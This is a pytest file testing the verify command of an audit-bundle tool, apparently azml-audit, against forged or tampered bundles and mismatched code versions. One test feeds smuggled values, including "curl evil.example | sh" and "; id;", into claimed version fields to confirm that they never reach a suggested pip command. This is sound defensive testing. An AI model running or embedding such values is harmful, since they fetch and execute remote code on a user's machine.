"""What verify reports of bundles that other code or other libraries sealed, or that claim so."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from checks.registry import registry
from scanner.emulator.tenants.generated import generated_tenant
from scanner.evidence.code import CHECKS, catalogue, catalogue_bytes, catalogue_in, misdescribed
from scanner.evidence.verifying.steps import Verification
from scanner.version import VERSION
from tests.support.command_line import run
from tests.support.evidence.bundles import scan_of, sealed_anew, verified, wrong
from tests.support.evidence.forging import Forger

TENANT = generated_tenant(subscriptions=1, workspaces=2, rules=2, seed=4)
REDACTION = "scanner/payloads/redaction.py"
OTHER = "0" * 64


@pytest.fixture(scope="module")
def sealed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("sealed") / "bundle"
    scan_of(TENANT, policies=("internet-outbound",)).seal(target)
    return target


@pytest.fixture
def bundle(sealed: Path, tmp_path: Path) -> Path:
    shutil.copytree(sealed, tmp_path / "bundle")
    return tmp_path / "bundle"


def recatalogued(bundle: Path, change: Callable[[dict[str, Any]], object]) -> Path:
    """Change what the bundle seals of its code."""
    described = catalogue_in((bundle / CHECKS).read_bytes())
    change(described)
    described["checks"].sort(key=lambda each: each["id"])
    (bundle / CHECKS).write_bytes(catalogue_bytes(described))
    sealed_anew(bundle)
    return bundle


def by_other_code(bundle: Path, *files: str) -> Path:
    return recatalogued(bundle, lambda described: described["files"].update(dict.fromkeys(files, OTHER)))


def claiming(bundle: Path, **members: Any) -> Path:
    """Return the bundle as a scan with these members in its statement would have sealed it."""
    forger = Forger.of(bundle)
    forger.claim(**members)
    forger.seal(bundle.with_name("other"))
    return bundle.with_name("other")


def with_another_verdict(bundle: Path) -> Path:
    findings = bundle / "findings.csv"
    assert "violated" in findings.read_text()
    findings.write_text(findings.read_text().replace("violated", "compliant", 1))
    sealed_anew(bundle)
    return bundle


def code_of(found: Verification) -> int:
    assert (found.level is None, found.conclusion == "") == (int(found.exit_code) != 0,) * 2
    return int(found.exit_code)


def texts(found: Verification) -> str:
    step = found.steps[-1]
    return " ".join((*step.wrong, *step.cannot, *step.open))


def test_the_words_of_other_code_are_not_held_against_it() -> None:
    installed = catalogue(registry())
    sealed = json.loads(json.dumps(installed))
    sealed["checks"][0]["title"] = "An older title"
    assert misdescribed(sealed, installed) == [sealed["checks"][0]["id"]]
    sealed["files"]["scanner/version.py"] = "0" * 64
    assert misdescribed(sealed, installed) == [sealed["checks"][0]["id"]]
    sealed["files"]["checks/model.py"] = "0" * 64
    assert misdescribed(sealed, installed) == []


def test_another_version_s_code_is_named_and_its_tables_compared(bundle: Path) -> None:
    def change(described: dict[str, Any]) -> None:
        files = described["files"]
        files |= {"scanner/version.py": OTHER, "scanner/removed.py": OTHER}
        del files["checks/model.py"]
        first = described["checks"][0]
        described["checks"].append({**first, "id": "CON001", "module": "plug_in", "code": OTHER})
        files["checks/families/inbound/public_access.py"] = OTHER
        for each in described["checks"]:
            each["code"] = OTHER if each["module"].endswith(".inbound.public_access") else each["code"]

    other = claiming(bundle, tool_version="0.0.9")
    found = verified(recatalogued(other, change))
    assert found.holds, wrong(found)
    for words in (
        "NET001 was decided by other code",
        "CON001 is not installed",
        "checks/model.py (not sealed)",
        "scanner/removed.py (not installed), scanner/version.py (changed).",
        "Sealed by azml-audit 0.0.9, derived again by",
    ):
        assert words in texts(found)
    assert found.code["checks/model.py"] == "not sealed"


def test_what_another_version_derives_otherwise_needs_that_version(bundle: Path) -> None:
    other = with_another_verdict(claiming(bundle, tool_version="0.0.9"))
    code, out, _ = run("verify", str(other))
    assert code == 3
    assert "pip install 'azml-audit==0.0.9'" in out
    assert "findings.csv: row check_id" in out
    assert out.splitlines()[-1].startswith("This azml-audit cannot verify")


def test_other_libraries_may_write_other_bytes_of_equal_values(bundle: Path) -> None:
    libraries = Forger.of(bundle).record.libraries | {"pyarrow": "1.0.0"}
    other = claiming(bundle, libraries=libraries)
    rows = pq.read_table(other / "findings.parquet")
    pq.write_table(rows, other / "findings.parquet", compression="snappy", write_statistics=False)
    sealed_anew(other)
    found = verified(other)
    assert found.holds
    assert "pyarrow 1.0.0, here" in texts(found)
    found = verified(with_another_verdict(other))
    assert (code_of(found), wrong(found)) == (3, [])
    assert "'pyarrow==1.0.0'" in texts(found)


def test_other_code_under_the_installed_version_is_not_verified_and_named(bundle: Path) -> None:
    """A tool whose redaction turns Enabled into Disabled seals another digest of that file, and equal tables."""
    found = verified(by_other_code(bundle, REDACTION))
    assert (code_of(found), wrong(found)) == (3, [])
    (cannot,) = found.steps[-1].cannot
    assert f"The bundle claims azml-audit {VERSION}, which is installed here, and its code differs" in cannot
    assert f"1 file differs: {REDACTION} (changed)" in cannot
    assert f"pip install --force-reinstall 'azml-audit=={VERSION}'" in cannot
    assert found.code == {REDACTION: "changed"}


def test_tables_that_other_code_derived_are_listed_beside_what_to_install(bundle: Path) -> None:
    code, out, _ = run("verify", str(with_another_verdict(by_other_code(bundle, "checks/engine/asking.py"))))
    assert code == 3
    assert "checks/engine/asking.py (changed)" in out
    assert "findings.csv: row check_id" in out
    assert "Verified" not in out


def test_another_result_of_the_installed_code_is_false(bundle: Path) -> None:
    found = verified(with_another_verdict(bundle))
    assert code_of(found) == 1
    assert any("findings.csv: row check_id" in each for each in wrong(found))


def broken_id(bundle: Path) -> None:
    path = bundle / "payloads" / "workspaces.jsonl"
    path.write_bytes(
        path.read_bytes().replace(b'"Enabled', b'"Disabled', 1).replace(b'\\"Enabled', b'\\"Disabled')
    )


def broken_catalogue(bundle: Path) -> None:
    (bundle / CHECKS).write_text(
        (bundle / CHECKS).read_text().replace('"files": {', '"files": {"a": "b", "a": "b",', 1)
    )


def edited_built_in(bundle: Path) -> None:
    recatalogued(bundle, lambda described: described["checks"][0].update(title="Not so"))


def built_in_by_a_plug_in(bundle: Path) -> None:
    recatalogued(bundle, lambda described: described["checks"][0].update(module="plug_in", code=OTHER))


def built_in_by_other_code(bundle: Path) -> None:
    recatalogued(bundle, lambda described: described["checks"][0].update(code=OTHER))


def no_files(bundle: Path) -> None:
    recatalogued(bundle, lambda described: described.update(files=[]))


@pytest.mark.parametrize(
    "forge",
    [broken_id, broken_catalogue, edited_built_in, built_in_by_a_plug_in, built_in_by_other_code, no_files],
)
@pytest.mark.parametrize("lie", [{}, {"tool_version": "0.0.9"}, {"libraries": {"pyarrow": "1.0.0"}}], ids=str)
def test_what_no_code_could_have_sealed_is_false_whatever_is_claimed(
    forge: Callable[[Path], None], lie: dict[str, Any], bundle: Path
) -> None:
    other = claiming(bundle, **lie)
    forge(other)
    sealed_anew(other)
    found = verified(other)
    assert code_of(found) == 1, (found.steps[-1], wrong(found))


def test_nothing_in_the_statement_becomes_a_command_to_copy(bundle: Path) -> None:
    libraries = {"pyarrow": "1'; curl evil.example | sh; '", "--index-url=https": "1"}
    found = verified(
        with_another_verdict(claiming(bundle, tool_version="0.0.9'; id; '", libraries=libraries))
    )
    assert found.steps[-1].cannot[0].endswith("pip install azml-audit")


def test_ten_files_of_other_code_are_named_and_json_has_all(bundle: Path) -> None:
    files = catalogue_in((bundle / CHECKS).read_bytes())["files"]
    described = [*files]

    def change(found: dict[str, Any]) -> None:
        found["files"] = dict.fromkeys(files, OTHER)
        for each in found["checks"]:
            each["code"] = OTHER

    code, out, _ = run("verify", str(recatalogued(bundle, change)))
    (line, _) = [line for line in out.splitlines() if "files differ" in line]
    assert code == 3
    assert f"{len(files)} files differ" in line
    assert line.count("(changed)") == 10
    assert f"and {len(files) - 10} more." in line
    _, out, _ = run("verify", str(bundle), "--format", "json")
    assert json.loads(out)["code"] == dict.fromkeys(described, "changed")
